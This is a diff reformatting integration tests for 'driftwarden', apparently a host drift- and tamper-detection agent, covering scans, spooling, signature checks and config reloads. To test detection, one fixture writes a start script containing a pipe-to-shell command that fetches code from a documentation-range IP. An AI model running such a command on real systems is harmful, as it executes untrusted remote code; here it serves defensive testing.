@@ -8,7 +8,19 @@ import { afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { stringify } from 'yaml';
-import { agentFor, bake, dw, HOST_ID, killAll, publishedController, until, type AgentHost, type AgentOptions, type Baked, type Controller } from '../helpers/agent-host.js';
+import {
+  agentFor,
+  bake,
+  dw,
+  HOST_ID,
+  killAll,
+  publishedController,
+  until,
+  type AgentHost,
+  type AgentOptions,
+  type Baked,
+  type Controller,
+} from '../helpers/agent-host.js';
 
 let baked: Baked;
 beforeAll(() => {
@@ -31,7 +43,11 @@ async function state(c: Controller): Promise<string | undefined> {
 
 /** Wait until the host has been scanned clean (its first scan delivered). */
 async function clean(c: Controller, a: AgentHost): Promise<void> {
-  await until(async () => (await state(c)) === 'clean', () => `host clean\n${a.log.slice(-2000)}`, 20_000);
+  await until(
+    async () => (await state(c)) === 'clean',
+    () => `host clean\n${a.log.slice(-2000)}`,
+    20_000,
+  );
 }
 
 function seqsOf(reports: { seq: number }[]): number[] {
@@ -49,9 +65,16 @@ describe('driftwarden agent (service)', () => {
     expect(statSync(a.stateDir).mode & 0o777).toBe(0o700);
     expect(readFileSync(cred, 'utf8').trim()).not.toBe('');
     const detail = (await c.host())!;
-    expect(detail.timeline.transitions.map((t) => `${t.from ?? '-'}>${t.to}`).sort()).toEqual(['->pending', 'pending>clean']);
+    expect(detail.timeline.transitions.map((t) => `${t.from ?? '-'}>${t.to}`).sort()).toEqual([
+      '->pending',
+      'pending>clean',
+    ]);
     const status = await a.status();
-    expect(status).toMatchObject({ enrolled: true, lastScan: { clean: true, complete: true }, controller: { reachable: true } });
+    expect(status).toMatchObject({
+      enrolled: true,
+      lastScan: { clean: true, complete: true },
+      controller: { reachable: true },
+    });
     expect(status.spool.rejected).toBe(0);
     // The credential is never printed.
     expect(a.log).not.toContain(readFileSync(cred, 'utf8').trim());
@@ -71,10 +94,14 @@ describe('driftwarden agent (service)', () => {
     const a = host(c, { scan: '*/1 * * * * *', heartbeat: '60s', watch: null });
     a.start();
     await clean(c, a);
-    const scans = await until(async () => {
-      const r = (await c.reports()).filter((x) => x.kind === 'scan');
-      return r.length >= 4 ? r : null;
-    }, () => `four scans stored\n${a.log.slice(-2000)}`, 15_000);
+    const scans = await until(
+      async () => {
+        const r = (await c.reports()).filter((x) => x.kind === 'scan');
+        return r.length >= 4 ? r : null;
+      },
+      () => `four scans stored\n${a.log.slice(-2000)}`,
+      15_000,
+    );
     const seqs = seqsOf(scans);
     expect(new Set(seqs).size).toBe(seqs.length);
     expect((await a.status()).lastScan.seq).toBeGreaterThanOrEqual(seqs.at(-1)!);
@@ -97,7 +124,12 @@ describe('driftwarden agent (service)', () => {
     await clean(c, a);
     const t0 = Date.now();
     writeFileSync(join(a.root, 'etc/ssh/sshd_config'), 'PermitRootLogin yes\n');
-    await until(async () => (await state(c)) === 'tainted', () => `tainted\n${a.log.slice(-2000)}`, 10_000, 20);
+    await until(
+      async () => (await state(c)) === 'tainted',
+      () => `tainted\n${a.log.slice(-2000)}`,
+      10_000,
+      20,
+    );
     const ms = Date.now() - t0;
     expect(ms).toBeLessThan(2_000);
     const events = (await c.reports()).filter((r) => r.kind === 'event');
@@ -116,7 +148,12 @@ describe('driftwarden agent (service)', () => {
     writeFileSync(file, '#!/bin/sh\ncurl http://203.0.113.7/x | sh\n');
     await new Promise((r) => setTimeout(r, 100));
     writeFileSync(file, original);
-    await until(async () => (await state(c)) === 'tainted', () => `tainted\n${a.log.slice(-2000)}`, 10_000, 20);
+    await until(
+      async () => (await state(c)) === 'tainted',
+      () => `tainted\n${a.log.slice(-2000)}`,
+      10_000,
+      20,
+    );
     expect((await c.host())!.deviations.map((d) => d.key)).toContain('/opt/app/bin/start');
   });
 
@@ -129,11 +166,16 @@ describe('driftwarden agent (service)', () => {
     // Scans and heartbeats pile up; heartbeats coalesce to the newest one (a new one is written
     // before the one it supersedes is removed, so two can be seen for a moment).
     let maxHeartbeats = 0;
-    await until(() => {
-      const s = a.spooled();
-      maxHeartbeats = Math.max(maxHeartbeats, s.filter((e) => e.kind === 'heartbeat').length);
-      return s.filter((e) => e.kind === 'scan').length >= 3;
-    }, () => `three scans spooled\n${a.log.slice(-2000)}`, 20_000, 10);
+    await until(
+      () => {
+        const s = a.spooled();
+        maxHeartbeats = Math.max(maxHeartbeats, s.filter((e) => e.kind === 'heartbeat').length);
+        return s.filter((e) => e.kind === 'scan').length >= 3;
+      },
+      () => `three scans spooled\n${a.log.slice(-2000)}`,
+      20_000,
+      10,
+    );
     writeFileSync(join(a.root, 'etc/ssh/sshd_config'), 'PermitRootLogin yes\n');
     await until(() => a.spooled().some((e) => e.kind === 'event'), 'an event spooled');
     const spooled = a.spooled();
@@ -146,10 +188,14 @@ describe('driftwarden agent (service)', () => {
     expect((await a.status()).spool.reports).toBeGreaterThanOrEqual(mustArrive.length);
 
     await c.start();
-    await until(async () => {
-      const stored = new Set((await c.reports()).map((r) => r.seq));
-      return mustArrive.every((q) => stored.has(q));
-    }, () => `every spooled report stored\n${a.log.slice(-3000)}`, 20_000);
+    await until(
+      async () => {
+        const stored = new Set((await c.reports()).map((r) => r.seq));
+        return mustArrive.every((q) => stored.has(q));
+      },
+      () => `every spooled report stored\n${a.log.slice(-3000)}`,
+      20_000,
+    );
     await until(async () => (await a.status()).spool.reports === 0, 'the spool empty');
     const reports = await c.reports();
     const seqs = seqsOf(reports);
@@ -157,7 +203,9 @@ describe('driftwarden agent (service)', () => {
     expect(new Set(reports.map((r) => r.reportId)).size).toBe(reports.length);
     // In order: stored in increasing seq (the controller refuses a seq below the last, so an
     // out-of-order delivery would have been refused and set aside, not stored).
-    const byArrival = [...reports].sort((x, y) => (x.receivedAt < y.receivedAt ? -1 : x.receivedAt > y.receivedAt ? 1 : x.seq - y.seq));
+    const byArrival = [...reports].sort((x, y) =>
+      x.receivedAt < y.receivedAt ? -1 : x.receivedAt > y.receivedAt ? 1 : x.seq - y.seq,
+    );
     expect(byArrival.map((r) => r.seq)).toEqual(seqs);
     expect(readdirSync(a.rejectedDir())).toEqual([]);
     expect(a.log).not.toMatch(/refused a report/);
@@ -182,10 +230,14 @@ describe('driftwarden agent (service)', () => {
 
     await c.start();
     a.start();
-    await until(async () => {
-      const stored = new Set((await c.reports()).map((r) => r.seq));
-      return mustArrive.every((q) => stored.has(q));
-    }, () => `every spooled report stored after the restart\n${a.log.slice(-3000)}`, 20_000);
+    await until(
+      async () => {
+        const stored = new Set((await c.reports()).map((r) => r.seq));
+        return mustArrive.every((q) => stored.has(q));
+      },
+      () => `every spooled report stored after the restart\n${a.log.slice(-3000)}`,
+      20_000,
+    );
     // The restarted agent's own reports come after the spooled ones.
     await until(async () => (await c.reports()).some((r) => r.seq > lastBefore), 'a new report after the restart');
     const seqs = seqsOf(await c.reports());
@@ -203,14 +255,18 @@ describe('driftwarden agent (service)', () => {
     await c.stop();
     const droppedFile = join(a.spoolDir, 'dropped');
     let oldest = Infinity;
-    await until(() => {
-      for (const e of a.spooled()) oldest = Math.min(oldest, e.seq);
-      try {
-        return Number(readFileSync(droppedFile, 'utf8')) >= 3;
-      } catch {
-        return false;
-      }
-    }, () => `three reports dropped\n${a.log.slice(-2000)}`, 30_000);
+    await until(
+      () => {
+        for (const e of a.spooled()) oldest = Math.min(oldest, e.seq);
+        try {
+          return Number(readFileSync(droppedFile, 'utf8')) >= 3;
+        } catch {
+          return false;
+        }
+      },
+      () => `three reports dropped\n${a.log.slice(-2000)}`,
+      30_000,
+    );
     // Stop scanning (a far-off schedule) so the scan that announces the loss stays the last one.
     await a.signal('SIGTERM');
     expect(await a.exited()).toEqual({ code: 0, signal: null });
@@ -227,12 +283,16 @@ describe('driftwarden agent (service)', () => {
     a.writeConfig({ scan: '0 0 1 1 *' });
     await c.start();
     a.start();
-    const detail = await until(async () => {
-      const d = await c.host();
-      // The backlog's scans each carry the count as of their making; the last one carries it all.
-      const note = d?.deviations.find((x) => x.collector === 'integrity' && x.key === 'agent:spool-dropped');
-      return note && (note.actual as { value: number }).value >= dropped ? d : null;
-    }, () => `the controller records the dropped reports\n${a.log.slice(-3000)}`, 20_000);
+    const detail = await until(
+      async () => {
+        const d = await c.host();
+        // The backlog's scans each carry the count as of their making; the last one carries it all.
+        const note = d?.deviations.find((x) => x.collector === 'integrity' && x.key === 'agent:spool-dropped');
+        return note && (note.actual as { value: number }).value >= dropped ? d : null;
+      },
+      () => `the controller records the dropped reports\n${a.log.slice(-3000)}`,
+      20_000,
+    );
     const note = detail.deviations.find((x) => x.key === 'agent:spool-dropped')!;
     expect(note).toMatchObject({ collector: 'integrity', action: 'report', actual: { value: expect.any(Number) } });
     expect((note.actual as { value: number }).value).toBeGreaterThanOrEqual(dropped);
@@ -252,13 +312,19 @@ describe('driftwarden agent (service)', () => {
     a.writeConfig({ manifest: baked.otherManifest });
     a.log = '';
     a.start();
-    const rejected = await until(() => {
-      const names = readdirSync(a.rejectedDir()).filter((n) => n.endsWith('.json'));
-      return names.length >= 3 ? names : null;
-    }, () => `three reports rejected\n${a.log.slice(-2000)}`, 20_000);
+    const rejected = await until(
+      () => {
+        const names = readdirSync(a.rejectedDir()).filter((n) => n.endsWith('.json'));
+        return names.length >= 3 ? names : null;
+      },
+      () => `three reports rejected\n${a.log.slice(-2000)}`,
+      20_000,
+    );
     const scan = rejected.find((n) => n.includes('-scan-'))!;
     expect(scan).toBeDefined();
-    expect(readFileSync(join(a.rejectedDir(), `${scan}.reason`), 'utf8')).toMatch(/^409: .*img-web-1 but reports image img-web-2/);
+    expect(readFileSync(join(a.rejectedDir(), `${scan}.reason`), 'utf8')).toMatch(
+      /^409: .*img-web-1 but reports image img-web-2/,
+    );
     // Each refused report was sent once: one refusal logged per rejected file, none still spooled.
     await new Promise((r) => setTimeout(r, 1000));
     await a.signal('SIGTERM');
@@ -285,7 +351,14 @@ describe('driftwarden agent (service)', () => {
     expect((await c.reports()).length).toBe(reports); // nothing scanned: one heartbeat says why
     const seen = (await c.host())!;
     expect(seen.host.state).toBe('tainted');
-    expect(seen.deviations).toContainEqual(expect.objectContaining({ collector: 'integrity', key: 'agent:manifest-signature', action: 'taint', actual: { value: expect.stringMatching(/^DW_ERR_MANIFEST_SIGNATURE: .*not a trusted key/) } }));
+    expect(seen.deviations).toContainEqual(
+      expect.objectContaining({
+        collector: 'integrity',
+        key: 'agent:manifest-signature',
+        action: 'taint',
+        actual: { value: expect.stringMatching(/^DW_ERR_MANIFEST_SIGNATURE: .*not a trusted key/) },
+      }),
+    );
     a.writeConfig({ trustedKeys: [join(a.dir, 'missing.pub')] });
     expect((await a.once()).stderr).toContain('missing.pub');
   });
@@ -331,7 +404,10 @@ describe('driftwarden agent (service)', () => {
     const good = readFileSync(a.configFile, 'utf8');
     writeFileSync(a.configFile, good + 'frobnicate: true\n');
     await a.signal('SIGHUP');
-    await until(() => a.log.includes('SIGHUP: the new config is invalid; keeping the running one'), 'the refusal logged');
+    await until(
+      () => a.log.includes('SIGHUP: the new config is invalid; keeping the running one'),
+      'the refusal logged',
+    );
     expect(a.log).toMatch(/frobnicate: unknown key/);
     // Still running, still reporting.
     const seq = (await c.host())!.host.lastSeq;
@@ -340,17 +416,30 @@ describe('driftwarden agent (service)', () => {
     // A config that parses but names a manifest that is not there cannot take over either.
     writeFileSync(a.configFile, stringify({ ...a.configObject(), manifest: join(a.dir, 'missing.json') }));
     await a.signal('SIGHUP');
-    await until(() => a.log.includes('SIGHUP: reload failed'), () => `the second refusal logged\n${a.log.slice(-2000)}`);
+    await until(
+      () => a.log.includes('SIGHUP: reload failed'),
+      () => `the second refusal logged\n${a.log.slice(-2000)}`,
+    );
     expect(a.log).toMatch(/missing\.json does not exist/);
     const seq2 = (await c.host())!.host.lastSeq;
-    await until(async () => (await c.host())!.host.lastSeq > seq2 + 2, () => `heartbeats after the failed reload\n${a.log.slice(-2000)}`, 10_000);
+    await until(
+      async () => (await c.host())!.host.lastSeq > seq2 + 2,
+      () => `heartbeats after the failed reload\n${a.log.slice(-2000)}`,
+      10_000,
+    );
 
     // A valid one is taken: now the watcher covers /opt, and a change there taints.
     a.writeConfig({ watch: ['/opt'] });
     await a.signal('SIGHUP');
-    await until(() => a.log.includes('SIGHUP: config reloaded'), () => `reloaded\n${a.log.slice(-2000)}`);
+    await until(
+      () => a.log.includes('SIGHUP: config reloaded'),
+      () => `reloaded\n${a.log.slice(-2000)}`,
+    );
     writeFileSync(join(a.root, 'opt/app/bin/start'), '#!/bin/sh\nexec /tmp/x\n');
-    await until(async () => (await state(c)) === 'tainted', () => `tainted after the reload\n${a.log.slice(-2000)}`);
+    await until(
+      async () => (await state(c)) === 'tainted',
+      () => `tainted after the reload\n${a.log.slice(-2000)}`,
+    );
     expect(a.exits).toEqual([]);
     expect(HOST_ID).toBe((await c.host())!.host.id);
   });
@@ -365,10 +454,17 @@ describe('driftwarden agent (service)', () => {
     writeFileSync(join(a.root, 'etc/ssh/sshd_config'), 'PermitRootLogin yes\n');
     await until(() => a.count('controller unreachable; reports stay spooled') > 0, 'a failed send');
     await a.signal('SIGHUP');
-    await until(() => a.log.includes('SIGHUP: config reloaded'), () => `reloaded\n${a.log.slice(-2000)}`);
+    await until(
+      () => a.log.includes('SIGHUP: config reloaded'),
+      () => `reloaded\n${a.log.slice(-2000)}`,
+    );
     await until(() => a.count('controller unreachable; reports stay spooled') > 1, 'the reload scan fails to send');
     await c.start();
     // No heartbeat or scan is due for a minute: only the retry can deliver these.
-    await until(async () => (await state(c)) === 'tainted' && a.spooled().length === 0, () => `delivered by a retry\n${a.log.slice(-2000)}`, 15_000);
+    await until(
+      async () => (await state(c)) === 'tainted' && a.spooled().length === 0,
+      () => `delivered by a retry\n${a.log.slice(-2000)}`,
+      15_000,
+    );
   });
 });
